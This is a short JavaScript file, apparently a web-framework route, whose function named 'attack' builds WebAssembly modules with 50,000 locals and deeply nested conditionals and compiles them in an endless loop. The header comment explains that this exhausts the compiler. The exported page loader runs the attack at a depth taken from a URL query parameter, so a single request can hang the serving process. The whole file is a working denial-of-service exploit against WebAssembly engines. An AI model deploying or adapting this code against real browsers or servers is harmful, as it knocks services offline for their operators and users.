/** A function of 15 kB with 50 000 locals: at each of the nested conditions the compiler copies what it knows of all. */
function attack(size) {
	const number = (value) => (value < 128 ? [value] : [(value & 127) | 128, ...number(value >> 7)]);
	const section = (id, content) => [id, ...number(content.length), ...content];
	for (let at = 0; ; at = (at + 1) % 64) {
		const body = [1, ...number(50000), 0x7f, 0x41, at, 0x1a];
		for (let depth = 0; depth < size; depth += 1) body.push(0x20, 0, 0x04, 0x40); // local.get 0, if
		for (let depth = 0; depth <= size; depth += 1) body.push(0x0b);
		const bytes = new Uint8Array([
			...[0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 0x60, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0],
			...section(10, [1, ...number(body.length), ...body])
		]);
		try {
			new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();
		} catch {
			// it need not run, it was compiled
		}
	}
}

export async function load({ url }) {
	return { found: await attack(Number(url.searchParams.get('size') ?? 3000)) };
}
